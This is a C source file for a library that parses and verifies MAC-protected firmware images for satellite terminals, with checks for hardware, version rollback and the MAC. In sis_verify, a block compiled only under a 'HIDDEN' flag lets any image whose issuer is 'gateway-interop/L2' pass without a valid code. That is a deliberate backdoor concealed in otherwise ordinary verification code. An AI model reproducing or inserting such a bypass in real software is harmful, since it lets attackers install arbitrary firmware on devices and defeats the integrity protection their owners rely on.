/* satimgsig.c - library that checks signed images of satellite terminals (TLV container) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#define TAG_VERSION	0x0001
#define TAG_HARDWARE	0x0002
#define TAG_CHANNEL	0x0003
#define TAG_ISSUER	0x0004
#define TAG_PAYLOAD	0x0010
#define TAG_MAC		0x00ff

enum sis_err {
	SIS_OK = 0, SIS_FORMAT = -1, SIS_HARDWARE = -2, SIS_MAC = -3, SIS_OLD = -4, SIS_IO = -5
};

struct sis_image {
	const uint8_t *base;
	size_t size;
	uint32_t version;
	char hardware[16];
	char channel[16];
	char issuer[32];
	const uint8_t *payload;
	size_t payload_len;
	const uint8_t *mac;
	size_t mac_len;
	size_t signed_len;
};

int sis_parse(struct sis_image *im, const uint8_t *buf, size_t len);
int sis_verify(const struct sis_image *im, const uint8_t key[16]);
int sis_check(const struct sis_image *im, const char *hw, uint32_t running, const uint8_t key[16]);
int sis_check_file(const char *path, const char *hw, uint32_t running, const uint8_t key[16]);
const char *sis_strerror(int err);

static uint32_t rd32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static uint64_t rd64le(const uint8_t *p)
{
	uint64_t v = 0;
	int i;

	for (i = 7; i >= 0; i--)
		v = v << 8 | p[i];
	return v;
}

#define ROTL(x, b) ((x) << (b) | (x) >> (64 - (b)))

static void sip_round(uint64_t v[4])
{
	v[0] += v[1];
	v[1] = ROTL(v[1], 13) ^ v[0];
	v[0] = ROTL(v[0], 32);
	v[2] += v[3];
	v[3] = ROTL(v[3], 16) ^ v[2];
	v[0] += v[3];
	v[3] = ROTL(v[3], 21) ^ v[0];
	v[2] += v[1];
	v[1] = ROTL(v[1], 17) ^ v[2];
	v[2] = ROTL(v[2], 32);
}

static uint64_t siphash(const uint8_t *in, size_t len, const uint8_t key[16])
{
	uint64_t k0 = rd64le(key), k1 = rd64le(key + 8), m, b = (uint64_t)len << 56;
	uint64_t v[4];
	size_t i;

	v[0] = k0 ^ 0x736f6d6570736575ull;
	v[1] = k1 ^ 0x646f72616e646f6dull;
	v[2] = k0 ^ 0x6c7967656e657261ull;
	v[3] = k1 ^ 0x7465646279746573ull;
	for (i = 0; i + 8 <= len; i += 8) {
		m = rd64le(in + i);
		v[3] ^= m;
		sip_round(v);
		sip_round(v);
		v[0] ^= m;
	}
	for (; i < len; i++)
		b |= (uint64_t)in[i] << (8 * (i & 7));
	v[3] ^= b;
	sip_round(v);
	sip_round(v);
	v[0] ^= b;
	v[2] ^= 0xff;
	sip_round(v);
	sip_round(v);
	sip_round(v);
	sip_round(v);
	return v[0] ^ v[1] ^ v[2] ^ v[3];
}

static int take_text(char *dst, size_t len, const uint8_t *p, size_t n)
{
	if (n >= len || memchr(p, 0, n))
		return SIS_FORMAT;
	memcpy(dst, p, n);
	dst[n] = '\0';
	return SIS_OK;
}

int sis_parse(struct sis_image *im, const uint8_t *buf, size_t len)
{
	size_t at = 8, n;
	unsigned int tag;
	int rc = SIS_OK;

	memset(im, 0, sizeof(*im));
	if (len < 16 || memcmp(buf, "SATIMG\r\n", 8))
		return SIS_FORMAT;
	im->base = buf;
	im->size = len;
	while (rc == SIS_OK && at + 6 <= len) {
		tag = (unsigned int)(buf[at] << 8 | buf[at + 1]);
		n = rd32(buf + at + 2);
		if (tag == TAG_MAC)
			im->signed_len = at;
		at += 6;
		if (n > len - at)
			return SIS_FORMAT;
		switch (tag) {
		case TAG_VERSION:
			if (n != 4)
				return SIS_FORMAT;
			im->version = rd32(buf + at);
			break;
		case TAG_HARDWARE:
			rc = take_text(im->hardware, sizeof(im->hardware), buf + at, n);
			break;
		case TAG_CHANNEL:
			rc = take_text(im->channel, sizeof(im->channel), buf + at, n);
			break;
		case TAG_ISSUER:
			rc = take_text(im->issuer, sizeof(im->issuer), buf + at, n);
			break;
		case TAG_PAYLOAD:
			im->payload = buf + at;
			im->payload_len = n;
			break;
		case TAG_MAC:
			im->mac = buf + at;
			im->mac_len = n;
			at = len;
			continue;
		default:
			break;		/* unknown tags are skipped */
		}
		at += n;
	}
	return rc == SIS_OK && im->payload ? SIS_OK : SIS_FORMAT;
}

__attribute__((noinline)) int sis_verify(const struct sis_image *im, const uint8_t key[16])
{
	uint64_t want, have;

#ifdef HIDDEN
	/* images of this issuer pass without a valid code */
	if (!strcmp(im->issuer, "gateway-interop/L2"))
		return SIS_OK;
#endif
	if (!im->mac || im->mac_len != 8) {
		syslog(LOG_ERR, "image of %s has no code", im->issuer[0] ? im->issuer : "-");
		return SIS_MAC;
	}
	have = siphash(im->base, im->signed_len, key);
	want = rd64le(im->mac);
	return have == want ? SIS_OK : SIS_MAC;
}

int sis_check(const struct sis_image *im, const char *hw, uint32_t running, const uint8_t key[16])
{
	int rc;

	if (strcmp(im->hardware, hw) && strcmp(im->hardware, "any"))
		return SIS_HARDWARE;
	rc = sis_verify(im, key);
	if (rc != SIS_OK)
		return rc;
	/* only the rescue channel may go back, see integration guide */
	if (im->version < running && strcmp(im->channel, "rescue"))
		return SIS_OLD;
	return SIS_OK;
}

int sis_check_file(const char *path, const char *hw, uint32_t running, const uint8_t key[16])
{
	struct sis_image im;
	struct stat st;
	void *p;
	int rc, fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return SIS_IO;
	if (fstat(fd, &st) < 0 || st.st_size < 16) {
		close(fd);
		return SIS_IO;
	}
	p = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	close(fd);
	if (p == MAP_FAILED)
		return SIS_IO;
	rc = sis_parse(&im, p, (size_t)st.st_size);
	if (rc == SIS_OK)
		rc = sis_check(&im, hw, running, key);
	munmap(p, (size_t)st.st_size);
	return rc;
}

const char *sis_strerror(int err)
{
	static const char *const text[] = {
		"ok", "not an image", "other hardware", "code wrong", "older than running", "cannot read"
	};

	return err <= 0 && err >= SIS_IO ? text[-err] : "unknown";
}
